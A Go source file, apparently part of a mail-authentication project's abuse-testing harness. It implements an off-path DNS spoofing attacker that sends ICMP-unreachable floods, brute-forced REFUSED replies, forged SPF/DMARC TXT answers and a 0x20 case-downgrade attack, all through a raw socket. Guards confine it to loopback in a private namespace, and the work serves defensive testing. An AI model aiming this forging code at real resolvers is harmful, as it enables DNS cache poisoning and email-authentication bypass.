package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/miekg/dns"

	"github.com/mailauth/mailauth/internal/testport"
)

// The off-path attacker of -mode spoof: it knows the service's address
// and the resolver's address and port, and (in every attack but the
// sweep) the service's live UDP ports, which it reads from /proc/net/udp
// as the "knows the live ports" attacker of the threat model. It sees no
// traffic. It forges IPv4 packets through a raw socket, only inside a
// private network namespace (privateNetns), only to 127.0.0.0/8.

// Kinds of attack.
const (
	attackICMPSweep   = "icmp-sweep"  // ICMP port unreachable from the resolver, swept over the ephemeral ports
	attackICMPLive    = "icmp-live"   // the same at the live ports
	attackUndecodable = "undecodable" // undecodable datagrams with guessed IDs at the live ports
	attackRefused     = "refused"     // REFUSED with the right question and brute-forced IDs
	attackForge       = "forge"       // forged answers (SPF +all, DMARC p=none) with brute-forced IDs
	// attackUndecodableSlow is undecodable against scans of a domain whose
	// answers come after the scan's deadline: whether the datagrams change
	// what the scan says of the domain's slowness.
	attackUndecodableSlow = "undecodable-slow"
	// attackCaseDowngrade sends REFUSED replies, with its questions in
	// lower case and brute-forced IDs, while scans ask about a domain
	// whose answers never come in time (one the attacker may scan
	// itself): replies that match a query but for the case, with no
	// reply in the right case between them, are how the client decides
	// that the resolver does not echo 0x20.
	attackCaseDowngrade = "case-downgrade"
	// attackForgeDowngraded is forge right after case-downgrade.
	attackForgeDowngraded = "forge-downgraded"
	icmpLiveRate          = 1000 // packets a second of icmp-live: the issue saw 27 a second suffice
	idsPerPass            = 64   // IDs sent to one port (per question) before the next port
	liveEvery             = 5 * time.Millisecond
	forgedTTL             = 300 // seconds: the cache keeps at most resolver.MaxCacheTTL
)

// outerNetnsEnv names the network namespace scripts/abuse started in
// (readlink /proc/self/ns/net before `unshare --net`), for when PID 1's
// cannot be read (a container's init, without CAP_SYS_PTRACE).
const outerNetnsEnv = "MAILAUTH_ABUSE_OUTER_NETNS"

// privateNetns returns nil only when this process runs in a network
// namespace other than PID 1's (or, when that cannot be read, other than
// the one scripts/abuse started in) and every interface it sees is a
// loopback one: the only place -mode spoof sends forged packets.
func privateNetns() error {
	self, err := os.Readlink("/proc/self/ns/net")
	if err != nil {
		return fmt.Errorf("read own network namespace: %w", err)
	}
	outer, err := os.Readlink("/proc/1/ns/net")
	if err != nil {
		outer = os.Getenv(outerNetnsEnv)
		if outer == "" {
			return fmt.Errorf("cannot tell whether this network namespace is private (%w, and no %s)", err, outerNetnsEnv)
		}
	}
	if self == outer {
		return fmt.Errorf("running in the outer network namespace (%s): run through scripts/abuse, which makes a private one", self)
	}
	ifs, err := net.Interfaces()
	if err != nil {
		return fmt.Errorf("list interfaces: %w", err)
	}
	for _, i := range ifs {
		if i.Flags&net.FlagLoopback == 0 {
			return fmt.Errorf("interface %s is not a loopback interface", i.Name)
		}
	}
	return nil
}

// udpSock is one line of /proc/net/udp or /proc/net/udp6.
type udpSock struct {
	Local, Remote netip.AddrPort
}

// parseProcUDP parses the contents of /proc/net/udp or /proc/net/udp6;
// lines it cannot read are skipped.
func parseProcUDP(b []byte) []udpSock {
	var out []udpSock
	sc := bufio.NewScanner(bytes.NewReader(b))
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) < 3 || !strings.HasSuffix(f[0], ":") {
			continue // the header, or a short line
		}
		l, ok1 := parseProcAddr(f[1])
		r, ok2 := parseProcAddr(f[2])
		if ok1 && ok2 {
			out = append(out, udpSock{Local: l, Remote: r})
		}
	}
	return out
}

// parseProcAddr parses "0100007F:0035" (IPv4) or the 32-digit IPv6 form:
// the address as the kernel's 32-bit words in host byte order (little
// endian here), the port in hex.
func parseProcAddr(s string) (netip.AddrPort, bool) {
	a, p, ok := strings.Cut(s, ":")
	if !ok || len(p) != 4 || (len(a) != 8 && len(a) != 32) {
		return netip.AddrPort{}, false
	}
	port, err := strconv.ParseUint(p, 16, 16)
	if err != nil {
		return netip.AddrPort{}, false
	}
	raw, err := hex.DecodeString(a)
	if err != nil {
		return netip.AddrPort{}, false
	}
	for i := 0; i+4 <= len(raw); i += 4 { // each word is printed in host (little-endian) order
		raw[i], raw[i+1], raw[i+2], raw[i+3] = raw[i+3], raw[i+2], raw[i+1], raw[i]
	}
	addr, _ := netip.AddrFromSlice(raw)
	return netip.AddrPortFrom(addr.Unmap(), uint16(port)), true
}

// livePorts returns the local ports of the namespace's UDP sockets that
// can receive the resolver's replies (liveSocket).
func livePorts(resolverAddr netip.AddrPort) []uint16 {
	var out []uint16
	seen := map[uint16]bool{}
	for _, f := range []string{"/proc/net/udp", "/proc/net/udp6"} {
		b, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		for _, s := range parseProcUDP(b) {
			if liveSocket(s, resolverAddr) && !seen[s.Local.Port()] {
				seen[s.Local.Port()] = true
				out = append(out, s.Local.Port())
			}
		}
	}
	return out
}

// liveSocket reports whether s can receive the resolver's replies: it is
// on a loopback or unspecified address, connected to the resolver or not
// connected, and not the resolver's own.
func liveSocket(s udpSock, resolverAddr netip.AddrPort) bool {
	l, r := s.Local, s.Remote
	switch {
	case l.Port() == resolverAddr.Port():
		return false
	case !l.Addr().IsLoopback() && !l.Addr().IsUnspecified():
		return false
	}
	return r == resolverAddr || r.Addr().IsUnspecified()
}

// Offsets in a forged IPv4 packet (a 20-byte header without options).
const (
	ipHeaderLen = 20
	udpHeadLen  = 8
)

// ipv4Header writes a 20-byte IPv4 header for a packet of total bytes
// and protocol proto. With IPPROTO_RAW the kernel fills in the header
// checksum and the packet ID.
func ipv4Header(b []byte, total int, proto byte, src, dst netip.Addr) {
	b[0] = 0x45 // version 4, 5 words
	b[1] = 0
	binary.BigEndian.PutUint16(b[2:], uint16(total))
	binary.BigEndian.PutUint16(b[4:], 0) // ID: the kernel's
	binary.BigEndian.PutUint16(b[6:], 0) // no fragmentation flags
	b[8] = 64                            // TTL
	b[9] = proto
	binary.BigEndian.PutUint16(b[10:], 0) // checksum: the kernel's
	s, d := src.As4(), dst.As4()
	copy(b[12:16], s[:])
	copy(b[16:20], d[:])
}

// checksum is the Internet checksum (RFC 1071) of b.
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

// icmpUnreachable returns an ICMP port-unreachable packet from the
// resolver to the service quoting the service's query: the 4-tuple
// service:port → resolver. setICMPPort changes its quoted port.
func icmpUnreachable(service netip.Addr, resolverAddr netip.AddrPort, port uint16) []byte {
	const quoted = ipHeaderLen + udpHeadLen
	b := make([]byte, ipHeaderLen+8+quoted)
	ipv4Header(b, len(b), syscall.IPPROTO_ICMP, resolverAddr.Addr(), service)
	icmp := b[ipHeaderLen:]
	icmp[0], icmp[1] = 3, 3 // destination unreachable, port unreachable
	q := icmp[8:]
	ipv4Header(q, 60, syscall.IPPROTO_UDP, service, resolverAddr.Addr()) // the query as it left: 60 bytes, say
	binary.BigEndian.PutUint16(q[10:], checksum(q[:ipHeaderLen]))
	u := q[ipHeaderLen:]
	binary.BigEndian.PutUint16(u[2:], resolverAddr.Port())
	binary.BigEndian.PutUint16(u[4:], 40)
	setICMPPort(b, port)
	return b
}

// setICMPPort sets the quoted source port of an icmpUnreachable packet
// and its ICMP checksum.
func setICMPPort(b []byte, port uint16) {
	icmp := b[ipHeaderLen:]
	binary.BigEndian.PutUint16(icmp[8+ipHeaderLen:], port)
	binary.BigEndian.PutUint16(icmp[2:], 0)
	binary.BigEndian.PutUint16(icmp[2:], checksum(icmp))
}

// udpFrom returns an IPv4 UDP packet from the resolver to the service
// carrying payload (a DNS message); setUDP sets its destination port and
// DNS ID. Its UDP checksum is 0 (none, allowed over IPv4).
func udpFrom(service netip.Addr, resolverAddr netip.AddrPort, payload []byte) []byte {
	b := make([]byte, ipHeaderLen+udpHeadLen+len(payload))
	ipv4Header(b, len(b), syscall.IPPROTO_UDP, resolverAddr.Addr(), service)
	u := b[ipHeaderLen:]
	binary.BigEndian.PutUint16(u[0:], resolverAddr.Port())
	binary.BigEndian.PutUint16(u[4:], uint16(udpHeadLen+len(payload)))
	copy(u[udpHeadLen:], payload)
	return b
}

// setUDP sets the destination port and the DNS ID of a udpFrom packet.
func setUDP(b []byte, port, id uint16) {
	binary.BigEndian.PutUint16(b[ipHeaderLen+2:], port)
	binary.BigEndian.PutUint16(b[ipHeaderLen+udpHeadLen:], id)
}

// undecodable is a datagram with a DNS header (a response with one
// question) whose question's first label runs past the end: no DNS
// message, but long enough to carry an ID.
func undecodable() []byte {
	b := make([]byte, 12, 15)
	binary.BigEndian.PutUint16(b[2:], 0x8180) // QR, RD, RA
	binary.BigEndian.PutUint16(b[4:], 1)      // QDCOUNT
	return append(b, 0x3f, 'a', 'b')          // a 63-byte label of 2 bytes
}

// forgedReply returns the packed reply to name/qtype with rcode and, when
// txt is not empty, one TXT answer holding it: the reply an off-path
// attacker sends with the question written as the scan would ask it.
func forgedReply(name string, qtype uint16, rcode int, txt string) ([]byte, error) {
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(strings.ToLower(name)), qtype)
	m.Response, m.RecursionAvailable, m.Rcode = true, true, rcode
	if txt != "" {
		m.Answer = []dns.RR{&dns.TXT{
			Hdr: dns.RR_Header{Name: m.Question[0].Name, Rrtype: dns.TypeTXT, Class: dns.ClassINET, Ttl: forgedTTL},
			Txt: []string{txt},
		}}
	}
	b, err := m.Pack()
	if err != nil {
		return nil, fmt.Errorf("pack forged reply: %w", err)
	}
	return b, nil
}

// forger sends one kind of forged packet until its context ends or it
// has sent max packets, at most rate a second.
type forger struct {
	kind     string
	service  netip.Addr     // the service's address (127.0.0.1)
	resolver netip.AddrPort // the resolver it impersonates
	rate     int
	max      int64
	// payloads returns the DNS payloads to send to each port and ID
	// (the forged replies for the scans in flight); nil for the ICMP
	// kinds.
	payloads func() [][]byte

	sent    atomic.Int64
	errs    atomic.Int64
	maxLive atomic.Int64 // most live ports seen at once
	elapsed time.Duration
}

// run sends until ctx ends or a.max packets went out.
func (a *forger) run(ctx context.Context) error {
	if !a.service.IsLoopback() || !a.resolver.Addr().IsLoopback() || !a.service.Is4() || !a.resolver.Addr().Is4() {
		return errors.New("spoof: only IPv4 loopback addresses are attacked")
	}
	if err := privateNetns(); err != nil {
		return fmt.Errorf("spoof: refusing to send forged packets: %w", err)
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return fmt.Errorf("spoof: raw socket (needs CAP_NET_RAW in the namespace): %w", err)
	}
	defer syscall.Close(fd)
	dst := &syscall.SockaddrInet4{Addr: a.service.As4()}
	start := time.Now()
	defer func() { a.elapsed = time.Since(start) }()
	send := func(b []byte) bool {
		if err := syscall.Sendto(fd, b, 0, dst); err != nil {
			a.errs.Add(1)
		} else {
			a.sent.Add(1)
		}
		return a.pace(ctx, start)
	}
	switch a.kind {
	case attackICMPSweep:
		lo, hi := testport.EphemeralRange() // the namespace's
		pkt := icmpUnreachable(a.service, a.resolver, lo)
		for {
			for p := int(lo); p <= int(hi); p++ {
				setICMPPort(pkt, uint16(p))
				if !send(pkt) {
					return nil
				}
			}
		}
	case attackICMPLive:
		pkt := icmpUnreachable(a.service, a.resolver, 0)
		for {
			ports := a.live()
			if len(ports) == 0 && !a.idle(ctx) {
				return nil
			}
			for _, p := range ports {
				setICMPPort(pkt, p)
				if !send(pkt) {
					return nil
				}
			}
		}
	default:
		cursor := map[uint16]uint16{} // the next ID to try at each port
		next := 0                     // where the next pass starts among the live ports
		for {
			ports, payloads := a.live(), a.payloads()
			if len(ports) == 0 || len(payloads) == 0 {
				if !a.idle(ctx) {
					return nil
				}
				continue
			}
			pkts := make([][]byte, len(payloads))
			for i, p := range payloads {
				pkts[i] = udpFrom(a.service, a.resolver, p)
			}
			// One pass: idsPerPass IDs at each port in turn, until
			// liveEvery has passed; then the live ports are read again.
			read, k := time.Now(), 0
			for ; k < len(ports) && time.Since(read) < liveEvery; k++ {
				port := ports[(next+k)%len(ports)]
				id := cursor[port]
				for range idsPerPass {
					for _, pkt := range pkts {
						setUDP(pkt, port, id)
						if !send(pkt) {
							return nil
						}
					}
					id++
				}
				cursor[port] = id
			}
			next = (next + k) % len(ports)
		}
	}
}

// live reads the live ports and notes their number.
func (a *forger) live() []uint16 {
	p := livePorts(a.resolver)
	if n := int64(len(p)); n > a.maxLive.Load() {
		a.maxLive.Store(n)
	}
	return p
}

// idle waits a moment for something to attack; false when ctx ended.
func (a *forger) idle(ctx context.Context) bool {
	select {
	case <-ctx.Done():
		return false
	case <-time.After(time.Millisecond):
		return true
	}
}

// pace holds the sending to a.rate a second; false when the attack
// should stop (ctx ended or a.max packets sent).
func (a *forger) pace(ctx context.Context, start time.Time) bool {
	n := a.sent.Load() + a.errs.Load()
	if n >= a.max {
		return false
	}
	if n%64 != 0 {
		return true
	}
	if ctx.Err() != nil {
		return false
	}
	ahead := time.Duration(float64(n)/float64(a.rate)*float64(time.Second)) - time.Since(start)
	if ahead > time.Millisecond {
		select {
		case <-ctx.Done():
			return false
		case <-time.After(ahead):
		}
	}
	return true
}
